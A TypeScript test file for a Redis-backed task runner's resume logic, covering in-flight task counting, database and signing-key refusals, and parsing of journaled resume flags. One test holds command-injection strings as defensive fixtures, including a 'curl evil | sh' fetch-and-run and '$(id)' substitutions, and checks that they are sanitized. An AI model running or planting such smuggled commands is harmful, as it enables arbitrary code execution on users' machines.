import { type DagEvent, events } from '../../../src';
import { inFlightTasks, localResumeRefusal, otherDatabaseRefusal, otherKeyRefusal, remoteNoteOf } from '../../../src/cli/remote/remoteNote';

/** The attempts a remote run had on workers when it stopped, from its journaled events. */
describe('tasks in flight when a remote run stopped', () => {
  let seq = 0;
  const at = () => ({ runId: 'r', seq: ++seq, at: seq });
  const started = (taskId: string) => events.taskStarted({ ...at(), taskId, attempt: 1, agent: 'shell' });
  const history: DagEvent[] = [
    events.dagCreated({ ...at(), dagId: 'd', taskCount: 5 }),
    ...['plain', 'stuck', 'timed-out', 'spawner', 'done'].map((taskId) => events.taskReady({ ...at(), taskId, attempt: 1 })),
    ...['plain', 'stuck', 'timed-out', 'spawner', 'done'].map(started),
    events.taskStuck({ ...at(), taskId: 'stuck', attempt: 1, runningForMs: 60_000 }),
    events.taskTimedOut({ ...at(), taskId: 'timed-out', attempt: 1, timeoutMs: 5_000 }),
    events.tasksSpawned({ ...at(), taskId: 'spawner', attempt: 1, tasks: [{ id: 'child', agent: 'shell' }] }),
    events.taskCompleted({ ...at(), taskId: 'done', attempt: 1, durationMs: 1 }),
  ];

  it('should count an attempt told it is stuck, timed out before its failure, or spawning, as in flight', () => {
    expect(inFlightTasks(history).sort()).toEqual(['plain', 'spawner', 'stuck', 'timed-out']);
  });

  it('should refuse a local resume of a run whose only attempt in flight was reported stuck', () => {
    const stuckOnly = history.filter((event) => !('taskId' in event) || event.taskId === 'stuck');
    expect(localResumeRefusal('r', { resumeFlags: ' --redis redis://h:6379/0' }, stuckOnly, false)).toMatch(
      /^run r sent its attempts to rxdag workers, and one was in flight when it stopped \(stuck\)/,
    );
  });

  describe('of a run an earlier version journaled, which noted only its resume flags', () => {
    const noteOf = (resumeFlags: string) => remoteNoteOf({ remote: { resumeFlags, prefix: 'rxdag' } });
    const key = Buffer.from('0123456789abcdef0123456789abcdef');

    it('should take only flags as the command line writes them, which a resume hint prints for pasting', () => {
      for (const flags of [
        " --redis 'redis://u:***@h:6379/0' --redis-prefix 'a b' --key-file /k --insecure",
        ' --redis redis://h --key-file <(…)',
        " --redis $'redis://h/0\\n' --redis-prefix 'it'\\''s'",
      ])
        expect(noteOf(flags)).toMatchObject({ resumeFlags: flags });
      // a journal edited by someone else: its text is not printed as a command
      for (const flags of [
        ' --redis x; touch /tmp/owned #',
        ' --redis redis://h/0 --local && curl evil | sh',
        ' --redis $(id)',
        ' --redis `id`',
      ])
        expect(noteOf(flags)).toMatchObject({ resumeFlags: ' --redis REDIS_URL' });
    });

    it('should read the Redis database from the URL of its flags', () => {
      expect(noteOf(" --redis 'redis://:***@h:6379/3' --key-file /k")).toMatchObject({ db: 3 });
      expect(noteOf(' --redis redis://h:6379')).toMatchObject({ db: 0 });
      expect(noteOf(' --redis redis://h:6379/')).toMatchObject({ db: 0 });
      expect(noteOf(' --redis not-a-url')).not.toHaveProperty('db');
      expect(otherDatabaseRefusal('r', noteOf(' --redis redis://h:6379/0'), history, 1)).toMatch(
        /^run r sent its attempts to Redis database 0, and 4 were in flight when it stopped: resumed on database 1/,
      );
    });

    it('should refuse a resume without a key when its flags name a key file and attempts were in flight', () => {
      const signed = noteOf(' --redis redis://h:6379/0 --key-file /etc/rxdag/key');
      expect(otherKeyRefusal('r', signed, history, undefined)).toBe(
        'run r signed its jobs (its resume flags name a key file), and 4 were in flight when it stopped: resumed with no key, ' +
          'their results would be refused and the run would fail. Resume with --redis redis://h:6379/0 --key-file /etc/rxdag/key ' +
          '(a run an rxdag made before signatures covered the key prefix is finished by that version: its results are signed the earlier way)',
      );
      // with a key (which key, such a run did not note), nothing in flight, or no key file: resumed
      expect(otherKeyRefusal('r', signed, history, key)).toBeUndefined();
      expect(otherKeyRefusal('r', signed, history.slice(0, 6), undefined)).toBeUndefined();
      expect(otherKeyRefusal('r', noteOf(' --redis redis://h:6379/0'), history, undefined)).toBeUndefined();
    });
  });
});
